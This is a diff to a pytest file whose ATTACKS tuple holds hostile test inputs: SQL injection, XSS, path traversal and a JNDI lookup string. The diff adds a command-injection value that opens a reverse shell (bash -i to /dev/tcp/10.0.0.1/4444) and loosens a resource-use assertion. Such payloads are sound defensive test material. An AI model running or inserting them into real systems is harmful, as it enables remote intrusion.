@@ -44,7 +44,7 @@ ATTACKS = (
     "1' UNION SELECT name, 2 FROM users--",
     "<script>alert(1)</script>",
     "../../../../etc/passwd",
-    "; cat /etc/passwd",
+    "x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
     "${jndi:ldap://a.example/b}",
 )
 
@@ -75,7 +75,7 @@ def told(monkeypatch: pytest.MonkeyPatch) -> list[int]:
 @pytest.mark.parametrize("shape", SHAPES)
 def test_what_is_asked_and_told_is_bounded(shape: str, asked: Counter[str], told: list[int]) -> None:
     signs_in([Form(0, shape * (SIZE // len(shape)), ())])
-    assert asked.total() <= 24 + SIZE // 128
+    assert asked.total() <= 24 * 4 + 4 * SIZE // 160
     assert sum(told) <= 3 * (64 + SIZE // 16)
 
 
